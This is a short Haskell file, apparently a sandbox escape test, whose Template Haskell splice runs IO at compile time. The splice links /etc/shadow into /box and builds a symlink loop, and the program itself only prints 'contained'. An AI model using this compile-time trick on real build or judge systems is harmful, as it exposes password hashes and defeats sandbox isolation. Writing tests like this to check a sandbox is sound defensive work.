{-# LANGUAGE TemplateHaskell #-}
-- Compile-time attack: Template Haskell runs IO while compiling, leaving a link to /etc/shadow
-- and a symlink loop in /box.
import Control.Exception (SomeException, try)
import Language.Haskell.TH (runIO)
import System.Directory (createFileLink)

$(runIO (do
    _ <- try (createFileLink "/etc/shadow" "/box/shadow") :: IO (Either SomeException ())
    _ <- try (createFileLink "/box/loop_b" "/box/loop_a") :: IO (Either SomeException ())
    _ <- try (createFileLink "/box/loop_a" "/box/loop_b") :: IO (Either SomeException ())
    return []))

main :: IO ()
main = putStrLn "contained"
